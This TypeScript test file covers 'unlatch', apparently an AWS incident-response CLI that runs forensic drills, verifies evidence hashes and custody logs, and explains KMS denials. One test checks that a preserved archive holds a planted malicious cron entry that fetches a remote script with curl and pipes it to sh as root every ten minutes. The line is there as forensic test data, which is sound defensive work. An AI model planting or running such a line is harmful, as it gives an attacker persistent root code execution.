import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readCustodyLog } from '#shared/evidence/custody-log';
import { Manifest } from '#shared/evidence/manifest';

const folder = mkdtempSync(join(tmpdir(), 'unlatch-cli-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const unlatch = (...args: string[]) => {
  const environment = { ...process.env };
  delete environment.POWERTOOLS_LOG_LEVEL;
  const { status, stdout, stderr } = spawnSync(
    process.execPath,
    ['--import', './local/text-modules.ts', 'local/cli.ts', ...args],
    { encoding: 'utf8', env: environment, timeout: 60_000 },
  );
  return { status, stdout, stderr };
};

const written = (name: string, text: string): string => {
  const file = join(folder, name);
  writeFileSync(file, text);
  return file;
};

describe('drill', () => {
  const out = join(folder, 'out');
  let run: ReturnType<typeof unlatch>;
  let evidence: string;

  beforeAll(() => {
    run = unlatch('drill', '--out', out, '--json');
    evidence = join(out, readdirSync(out)[0] ?? '');
  });

  it('ends with exit 0, a timeline for people, and an answer for programs', () => {
    expect(run.status).toBe(0);
    expect(run.stderr).toContain('KMS refused kms:ReEncryptFrom');
    expect(run.stderr).toMatch(/\d AWS calls in sequence from the refusal to SendCommand/);
    expect(JSON.parse(run.stdout)).toMatchObject({
      scenario: 'custom-key-denied',
      cases: [{ verdict: 'preserved', cause: 'key-policy-silent', callsInSequence: 6 }],
      deadLetters: 0,
    });
  });

  it('writes evidence whose hashes and sizes are those of the manifest', () => {
    const manifest = Manifest.parse(JSON.parse(readFileSync(join(evidence, 'manifest.json'), 'utf8')));
    const files = [...manifest.artefacts, ...manifest.documents];
    expect(files.map(({ path }) => path).sort()).toEqual([
      'custody.jsonl',
      'facts.json',
      'report.html',
      'report.json',
      'ssm-triage/i-0b1c2d3e4f5a69788/triage.tar.gz',
    ]);
    for (const { path, bytes, sha256 } of files) {
      const body = readFileSync(join(evidence, path));
      expect({ path, bytes: body.length, sha256: createHash('sha256').update(body).digest('hex') }).toEqual({
        path,
        bytes,
        sha256,
      });
    }
    expect(readCustodyLog(readFileSync(join(evidence, 'custody.jsonl'), 'utf8'))).toHaveLength(
      manifest.custody.entries,
    );
  });

  it('brings an archive in which the planted malware stands as it stood on the machine', () => {
    const archive = join(evidence, 'ssm-triage/i-0b1c2d3e4f5a69788/triage.tar.gz');
    const listed = spawnSync('tar', ['-tzf', archive], { encoding: 'utf8' }).stdout;
    expect(listed).toContain('files/etc/cron.d/refresh');
    expect(listed).toContain('files/root/.bash_history');
    const caseId = evidence.split('/').at(-1) ?? '';
    const cron = spawnSync('tar', ['-xzOf', archive, `${caseId}/files/etc/cron.d/refresh`], {
      encoding: 'utf8',
    }).stdout;
    expect(cron).toBe('*/10 * * * * root curl -s http://198.51.100.7/x | sh\n');
  });
});

describe('verify', () => {
  const out = join(folder, 'verified');
  const folderOf = () => join(out, readdirSync(out)[0] ?? '');
  beforeAll(() => unlatch('drill', '--scenario', 'boundary-denied', '--out', out));

  it('finds evidence intact as it was written, and says so', () => {
    expect(unlatch('verify', folderOf())).toMatchObject({ status: 0, stderr: expect.stringContaining('intact') });
  });

  it('finds a byte that was changed, in the report or in the custody log', () => {
    const custody = join(folderOf(), 'custody.jsonl');
    const before = readFileSync(custody, 'utf8');
    writeFileSync(custody, before.replace('"result":"ok"', '"result":"no"'));
    const { status, stdout } = unlatch('verify', '--json', folderOf());
    writeFileSync(custody, before);
    expect(status).toBe(1);
    expect(JSON.parse(stdout)).toMatchObject({
      intact: false,
      findings: [expect.stringContaining('custody.jsonl'), expect.stringMatching(/^line \d+ of the custody log/)],
    });
  });

  it('takes a folder without a manifest for bad input', () => {
    expect(unlatch('verify', folder)).toMatchObject({
      status: 2,
      stderr: expect.stringContaining('expected a manifest.json'),
    });
  });
});

describe('signal', () => {
  it('prints the rule, the function and the signal of each event, or why it is ignored', () => {
    const { status, stdout } = unlatch(
      'signal',
      '--json',
      'events/aws.kms/create-grant-denied-by-service-control-policy.json',
      'events/aws.ec2/create-snapshot.json',
    );
    expect(status).toBe(0);
    expect(JSON.parse(stdout)).toMatchObject([
      {
        rule: 'ObserveFunctionKmsRefused',
        function: 'ObserveFunction',
        signal: { kind: 'denial', action: 'kms:CreateGrant', layer: 'service-control-policy', explicit: true },
        ignored: null,
      },
      { rule: 'ObserveFunctionAcquisitionCalled', signal: { kind: 'call', name: 'CreateSnapshot' }, ignored: null },
    ]);
  });

  it('watches another role where it is told to', () => {
    const { stdout } = unlatch(
      'signal',
      '--json',
      '--response-role',
      'Forensics*',
      'events/aws.ec2/create-snapshot.json',
    );
    expect(JSON.parse(stdout)).toMatchObject([
      { rule: null, signal: null, ignored: expect.stringContaining('not a response role') },
    ]);
  });
});

describe('invoke', () => {
  it('runs one function with one event, and prints its answer', () => {
    const { status, stdout } = unlatch('invoke', 'remediate', 'events/by-hand/dry-run.json');
    expect(status).toBe(0);
    expect(JSON.parse(stdout)).toMatchObject({ verdict: 'planned', dryRun: true });
  });

  it('exits 1, with one clear line, where the function throws', () => {
    const file = written('not-an-event.json', '{"detail-type":"EBS Volume Notification"}');
    const { status, stdout, stderr } = unlatch('invoke', 'observe', file);
    expect({ status, stdout }).toEqual({ status: 1, stdout: '' });
    expect(stderr.trim().split('\n')).toEqual([expect.stringContaining('observe threw: `id`')]);
  });
});

describe('bad input exits 2 with one clear line: what, where, and what was expected', () => {
  const scenario = JSON.parse(readFileSync('local/scenario/custom-key-denied.json', 'utf8'));
  const cases = [
    {
      name: 'truncated JSON',
      args: () => ['signal', written('cut.json', '{"version":"0",')],
      says: /cut\.json: expected JSON/,
    },
    {
      name: 'a file that is not there',
      args: () => ['signal', join(folder, 'nowhere.json')],
      says: /nowhere\.json: cannot be read/,
    },
    {
      name: 'an event that is a list',
      args: () => ['signal', written('list.json', '[]')],
      says: /list\.json: expected one event/,
    },
    {
      name: 'a detail that fits no schema',
      args: () => [
        'signal',
        written(
          'detail.json',
          JSON.stringify({
            id: 'x',
            'detail-type': 'AWS API Call via CloudTrail',
            source: 'aws.kms',
            account: '111122223333',
            time: '',
            region: 'eu-west-3',
            detail: {},
          }),
        ),
      ],
      says: /detail\.json: `detail\.userIdentity`/,
    },
    {
      name: 'a scenario with an unknown key',
      args: () => [
        'drill',
        '--scenario',
        written('key.json', JSON.stringify({ ...scenario, speed: 'fast' })),
        '--out',
        join(folder, 'none'),
      ],
      says: /key\.json: .*speed/,
    },
    {
      name: 'a scenario that names a key it does not have',
      args: () => [
        'drill',
        '--scenario',
        written('name.json', JSON.stringify(scenario).replaceAll('"key":"payments-key"', '"key":"other-key"')),
        '--out',
        join(folder, 'none'),
      ],
      says: /name\.json: `instances\[0\]\.volumes\[0\]\.key`: there is no key `other-key`/,
    },
    {
      name: 'a parameter that the template does not have',
      args: () => [
        'drill',
        '--scenario',
        written('parameter.json', JSON.stringify({ ...scenario, parameters: { Speed: '9' } })),
        '--out',
        join(folder, 'none'),
      ],
      says: /Speed/,
    },
    {
      name: 'a function that is not there',
      args: () => ['invoke', 'nothing', 'events/by-hand/dry-run.json'],
      says: /there is no function `nothing`; there are `observe`, `remediate`/,
    },
    { name: 'an option that is not there', args: () => ['drill', '--fast'], says: /--fast/ },
    { name: 'no event', args: () => ['signal'], says: /expected at least one event file/ },
  ];

  it.each(cases)('$name', ({ args, says }) => {
    const { status, stdout, stderr } = unlatch(...args());
    expect({ status, stdout }).toEqual({ status: 2, stdout: '' });
    expect(stderr.trim().split('\n')).toEqual([expect.stringMatching(says)]);
    expect(existsSync(join(folder, 'none'))).toBe(false);
  });

  it('a command that is not there', () => {
    const { status, stderr } = unlatch('explode');
    expect(status).toBe(2);
    expect(stderr).toMatch(/^unlatch: there is no command `explode`\n/);
  });
});

it('a denial of 256 KB, with terminal escapes in it, is read, bounded, and printed harmlessly', () => {
  const event = JSON.parse(readFileSync('events/aws.kms/create-grant-not-allowed-by-key-policy.json', 'utf8'));
  event.detail.errorMessage += `\u001b[2J${'x'.repeat(256 * 1024)}`;
  const file = written('large.json', JSON.stringify(event));
  const { status, stdout } = unlatch('signal', '--json', file);
  expect(status).toBe(0);
  const [{ signal }] = JSON.parse(stdout);
  expect(signal).toMatchObject({ action: 'kms:CreateGrant', layer: 'key-policy' });
  expect(signal.message).toHaveLength(4_096);
  expect(stdout).not.toContain('\u001b');
});

describe('explain', () => {
  const examples = 'docs/explain';
  const expected: Readonly<Record<string, object>> = {
    'allowed-but-for-what-is-not-known.json': { status: 1, decision: 'undetermined', cause: 'undetermined' },
    'default-key-of-another-region.json': { status: 1, decision: 'denied', cause: 'key-policy-silent' },
    'denied-by-the-organisation.json': { status: 1, decision: 'denied', cause: 'service-control-policy-deny' },
    'from-an-event.json': { status: 1, decision: 'denied', cause: 'key-policy-silent' },
    'key-policy-of-another-account.json': { status: 1, decision: 'denied', cause: 'key-policy-silent' },
  };

  it.each(readdirSync(examples))('decides the example %s', (name) => {
    const { status, stdout, stderr } = unlatch('explain', join(examples, name), '--json');
    const { decision, cause, ...rest } = JSON.parse(stdout);
    expect({ status, decision, cause }).toEqual(expected[name]);
    expect(Object.keys(rest)).toEqual(['layer', 'explicit', 'statement', 'explanation', 'missing', 'fixes', 'trace']);
    expect(stderr).toBe('');
  });

  it('asks again what a case kept, and comes to the same', () => {
    const out = join(folder, 'asked-again');
    unlatch('drill', '--out', out);
    const evidence = join(out, readdirSync(out)[0] ?? '');
    const { diagnosis } = JSON.parse(readFileSync(join(evidence, 'report.json'), 'utf8'));
    const again = JSON.parse(unlatch('explain', join(evidence, 'facts.json'), '--json').stdout);
    const { cause, layer, statement } = diagnosis;
    expect(again).toMatchObject({ cause, layer, statement });
    expect(again.fixes.map(({ statement }: { statement: unknown }) => statement)).toEqual(
      diagnosis.fixes.map(({ statement }: { statement: unknown }) => statement),
    );
  });

  const facts = JSON.parse(readFileSync(join(examples, 'key-policy-of-another-account.json'), 'utf8'));
  it('ends with exit 0 where KMS allows it', () => {
    const open = { Effect: 'Allow', Principal: { AWS: '111122223333' }, Action: 'kms:*', Resource: '*' };
    const key = { ...facts.key, policy: { Version: '2012-10-17', Statement: [open] } };
    const { status, stdout, stderr } = unlatch('explain', written('open.json', JSON.stringify({ ...facts, key })));
    expect({ status, stdout }).toEqual({ status: 0, stdout: '' });
    expect(stderr).toContain('KMS allows kms:CreateGrant');
    expect(stderr).toContain('What each layer says:');
  });

  it.each([
    { name: 'no file', args: [], says: 'expected one file of facts' },
    { name: 'two files', args: ['a.json', 'b.json'], says: 'expected one file of facts' },
    { name: 'a file that is not there', args: ['nowhere.json'], says: 'nowhere.json: cannot be read' },
    { name: 'no JSON', text: '{', says: 'expected JSON' },
    { name: 'an empty object', text: '{}', says: 'expected either `request`, `event` or `denial`' },
    { name: 'an event that is no refusal', text: JSON.stringify({ event: { source: 'aws.ec2' } }), says: '`event`: ' },
    {
      name: 'an unreadable policy',
      text: JSON.stringify({ ...facts, key: { policy: { Statement: [{ Effect: 'Deny' }] } } }),
      says: '`key.policy`: Statement[0]',
    },
  ])('refuses $name with exit 2 and one line', ({ args, text, says }) => {
    const { status, stdout, stderr } = unlatch('explain', ...(args ?? [written('bad.json', text ?? '')]));
    expect({ status, stdout, lines: stderr.trimEnd().split('\n').length }).toEqual({ status: 2, stdout: '', lines: 1 });
    expect(stderr).toContain(says);
  });
});
